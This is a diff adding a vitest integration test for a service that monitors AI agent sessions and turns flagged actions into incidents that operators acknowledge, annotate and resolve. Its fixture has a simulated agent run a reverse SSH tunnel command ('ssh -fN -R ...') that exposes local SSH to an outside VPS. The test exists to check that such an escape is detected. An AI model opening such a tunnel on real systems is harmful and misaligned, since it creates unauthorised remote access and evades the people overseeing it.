@@ -1,0 +1,79 @@
+// An episode comes in over HTTP, and an incident forms by itself and is worked on.
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { IncidentDetail, IncidentList } from './protocol/incident.ts'
+import { IncidentTimeline } from './protocol/incident-timeline.ts'
+import { startForTest, type TestServer } from './start-for-test.ts'
+
+let server: TestServer
+beforeAll(async () => {
+  server = await startForTest()
+})
+afterAll(() => server.stop())
+
+const session = 'ep-7f3a91'
+const list = async (query = '') => IncidentList.parse(await (await server.api(`/api/incidents${query}`)).json())
+const change = async (id: string, wish: object) => {
+  const answer = await server.api(`/api/incidents/${id}/changes`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/json' },
+    body: JSON.stringify(wish),
+  })
+  return { status: answer.status, body: (await answer.json()) as object }
+}
+const ingest = (events: object[]) =>
+  server.api('/api/ingest/events', {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-ndjson' },
+    body: events.map((event) => JSON.stringify({ v: 1, atMs: Date.now(), session, ...event })).join('\n'),
+  })
+
+describe('an incident', () => {
+  it('forms from what a session does, and is worked on until it is resolved', async () => {
+    // given: an episode that opens a tunnel
+    await ingest([
+      { kind: 'session.started', data: { held: 'none', abilities: [], agent: 'rome-30b' } },
+      { kind: 'action.started', data: { call: 'c1', tool: 'shell', input: 'pytest -q' } },
+      {
+        kind: 'action.started',
+        data: { call: 'c2', tool: 'shell', input: 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40' },
+      },
+    ])
+    // then it is there, with the flag's reason
+    await expect.poll(async () => (await list()).incidents.length, { timeout: 10_000 }).toBe(1)
+    // and the end that only telemetry tells holds nothing
+    await ingest([{ kind: 'session.ended', data: {} }])
+    const [found] = (await list(`?session=${session}`)).incidents
+    expect(found).toMatchObject({ incident: 'INC-1', status: 'open', sessions: [session], containedSessions: 0 })
+    // acknowledged, noted, retitled
+    expect(await change('INC-1', { type: 'acknowledge', forMinutes: 10 })).toMatchObject({
+      status: 200,
+      body: { status: 'acknowledged', owner: { name: 'VIGIL_KEY' } },
+    })
+    await change('INC-1', { type: 'note', text: 'The far end is a VPS, **not ours**.' })
+    expect(await change('INC-1', { type: 'retitle', title: 'Tunnel to a VPS' })).toMatchObject({
+      body: { title: 'Tunnel to a VPS' },
+    })
+    expect(await change('INC-1', { type: 'split', sessions: [session] })).toMatchObject({ status: 409 })
+    expect(await change('INC-1', { type: 'merge', into: 'INC-99' })).toMatchObject({ status: 409 })
+    // what happened is on one axis, the flag tied to the call that it names
+    const timeline = IncidentTimeline.parse(await (await server.api('/api/incidents/INC-1/timeline')).json())
+    const action = timeline.items.find(({ lane, label }) => lane === 'agent' && label.includes('ssh -fN'))
+    expect(timeline.items.find(({ lane }) => lane === 'flags')?.tie?.to).toBe(action?.id)
+    // resolved, and it stays so over a restart
+    await change('INC-1', { type: 'resolve', verdict: 'true', reason: 'ended by hand' })
+    await server.restart()
+    expect(IncidentDetail.parse(await (await server.api('/api/incidents/INC-1')).json())).toMatchObject({
+      status: 'resolved',
+      verdict: 'true',
+      log: [
+        { change: { type: 'acknowledge' } },
+        { change: { type: 'note' } },
+        { change: { type: 'retitle' } },
+        { change: { type: 'resolve' } },
+      ],
+    })
+    expect((await list('?state=unresolved')).incidents).toEqual([])
+    expect(await change('INC-1', { type: 'acknowledge' })).toMatchObject({ status: 409 })
+    expect((await server.api('/api/incidents/INC-404')).status).toBe(404)
+  })
+})
